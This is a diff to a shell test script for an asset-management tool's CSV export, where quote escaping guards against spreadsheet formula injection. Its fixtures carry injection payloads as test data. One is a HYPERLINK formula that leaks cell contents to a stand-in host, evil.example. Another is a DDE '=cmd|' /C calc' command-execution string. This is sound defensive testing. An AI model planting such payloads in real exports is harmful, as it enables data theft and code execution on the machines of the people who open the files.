@@ -2,7 +2,8 @@
 # Spreadsheet formula injection (OWASP "CSV injection"): every CSV the tool
 # writes (asset export, person export, listings' --csv, reports) puts a
 # single quote before a cell that starts with =, +, -, @, TAB or CR, and
-# doubles a leading quote; a plain negative number is left alone. Import
+# before a cell that starts with a quote and one of those or another quote
+# ('=x is written ''=x); a plain negative number is left alone. Import
 # drops that escape, so export -> import -> export gives the same bytes.
 # Import trims white space (a leading TAB included) as it always has, so a
 # TAB-escaped formula from another tool comes in as the formula and goes
@@ -25,15 +26,15 @@ cd "$T" || exit 1
 
 H='tag,serial,make,model,name,category,location,status,issued_to,issued_at,due,condition_out,override_reason,personal_data,encrypted,purchased,cost_pence,supplier,order_number,warranty_until,notes,last_audited,created_at,updated_at,media'
 check_out "asset export" "$H
-TS-000001,'+1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(A1),'-x,,'''two,issued,JB,2026-11-23,2026-11-30,'=1+2,,no,no,2024-01-02,64999,''quoted,''=x,,\"'-line one
+TS-000001,'+1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(A1),'-x,,'''two,issued,JB,2026-11-23,2026-11-30,'=1+2,,no,no,2024-01-02,64999,'quoted,''=x,,\"'-line one
 =line two\",,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z,
-TS-000002,'',Dell,'-,,,,in_stock,,,,,,no,no,,1,,,,,,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z," "$A" asset export
+TS-000002,',Dell,'-,,,,in_stock,,,,,,no,no,,1,,,,,,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z," "$A" asset export
 check_out "asset list --csv" "tag,make,model,serial,category,location,status
 TS-000001,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(A1),'+1,,'''two,issued
-TS-000002,Dell,'-,'',,,in_stock" "$A" asset list --csv
+TS-000002,Dell,'-,',,,in_stock" "$A" asset list --csv
 check_out "person export" "ref,name,email,role,job_title,authoriser,aup_signed,aup_version,leaving_date,created_at,updated_at,badges
 AO,'+Ann Other,ann@school.org,staff,,no,,,,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z,
-JB,'=cmd|' /C calc'!A0,,staff,'@x,no,2026-01-01,''v1,2026-12-01,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z," "$A" person export
+JB,'=cmd|' /C calc'!A0,,staff,'@x,no,2026-01-01,'v1,2026-12-01,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z," "$A" person export
 check_out "person list --csv" "ref,name,email,role,aup_signed,leaving_date
 AO,'+Ann Other,ann@school.org,staff,,
 JB,'=cmd|' /C calc'!A0,,staff,2026-01-01,2026-12-01" "$A" person list --csv
@@ -65,7 +66,7 @@ check_out "another tool's escapes" "other.csv: 2 assets added" "$A" asset import
 check_out "read as meant" "=x|'abc|'abc|=SUM(A1)
 -|@|+|'" sh -c "\"$A\" asset export --json | jq -r '.[] | [.serial, .make, .model, (.supplier // \"\")] | join(\"|\")'"
 check_out "and written back escaped" "tag,make,model,serial,category,location,status
-TS-000001,''abc,''abc,'=x,,,in_stock
+TS-000001,'abc,'abc,'=x,,,in_stock
 TS-000002,'@,'+,'-,,,in_stock" "$A" asset list --csv
 
 # a negative cost is no amount (escaped or not): refused, nothing changed
